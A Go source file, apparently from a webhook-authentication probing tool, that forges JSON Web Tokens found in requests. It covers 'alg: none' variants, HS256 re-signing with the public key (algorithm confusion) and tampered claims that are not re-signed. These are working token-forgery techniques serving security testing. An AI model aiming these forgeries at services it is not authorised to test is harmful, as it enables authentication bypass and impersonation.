package probe

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"
	"strings"

	"github.com/hookbastion/hookbastion/authz"
)

var compact = regexp.MustCompile(`eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+`)

// token finds a JSON Web Signature in a request.
func token(req *authz.Request) string {
	for _, h := range req.Headers {
		if m := compact.Find(h.Value); m != nil {
			return string(m)
		}
	}
	if m := compact.Find(req.Path); m != nil {
		return string(m)
	}
	return string(compact.Find(bytes.Join(req.Body.Segments, nil)))
}

// retoken is a new delivery whose token is another.
func (s *session) retoken(detail string, change func(header map[string]any, parts []string) []string) ([]shot, error) {
	req := s.fresh()
	old := token(req)
	if old == "" {
		return nil, nil
	}
	parts := strings.Split(old, ".")
	text, err := base64.RawURLEncoding.DecodeString(parts[0])
	header := map[string]any{}
	if err == nil {
		err = json.Unmarshal(text, &header)
	}
	if err != nil {
		return nil, nil //nolint:nilerr // it only looks like one
	}
	now := []byte(strings.Join(change(header, parts), "."))
	for i := range req.Headers {
		req.Headers[i].Value = bytes.ReplaceAll(req.Headers[i].Value, []byte(old), now)
	}
	req.Path = bytes.ReplaceAll(req.Path, []byte(old), now)
	req.Body.Segments = [][]byte{bytes.ReplaceAll(bytes.Join(req.Body.Segments, nil), []byte(old), now)}
	return []shot{{detail: detail, req: req}}, nil
}

func head(header map[string]any, alg string) string {
	header["alg"] = alg
	text, _ := json.Marshal(header) // what was read can be written
	return base64.RawURLEncoding.EncodeToString(text)
}

func algNone(s *session) ([]shot, error) {
	var all []shot
	for _, alg := range []string{"none", "nOnE", ""} {
		for _, signature := range []string{"", "AAAA"} {
			shots, err := s.retoken(fmt.Sprintf("%q, signature %q", alg, signature), func(h map[string]any, parts []string) []string {
				return []string{head(h, alg), parts[1], signature}
			})
			if err != nil {
				return nil, err
			}
			all = append(all, shots...)
		}
	}
	return all, nil
}

func algPublicKey(s *session) ([]shot, error) {
	var all []shot
	for _, public := range s.hook.Public {
		for _, key := range [][]byte{public, bytes.TrimSpace(public)} {
			shots, err := s.retoken("HS256", func(h map[string]any, parts []string) []string {
				first := head(h, "HS256")
				mac := hmac.New(sha256.New, key)
				mac.Write([]byte(first + "." + parts[1]))
				return []string{first, parts[1], base64.RawURLEncoding.EncodeToString(mac.Sum(nil))}
			})
			if err != nil {
				return nil, err
			}
			all = append(all, shots...)
		}
	}
	return all, nil
}

func changedClaims(s *session) ([]shot, error) {
	return s.retoken("", func(_ map[string]any, parts []string) []string {
		claims := map[string]any{}
		text, err := base64.RawURLEncoding.DecodeString(parts[1])
		if err = errors.Join(err, json.Unmarshal(text, &claims)); err != nil {
			return parts // it is detached: the body is what it signs
		}
		claims["probe"] = nonce()
		text, _ = json.Marshal(claims) // what was read can be written
		return []string{parts[0], base64.RawURLEncoding.EncodeToString(text), parts[2]}
	})
}
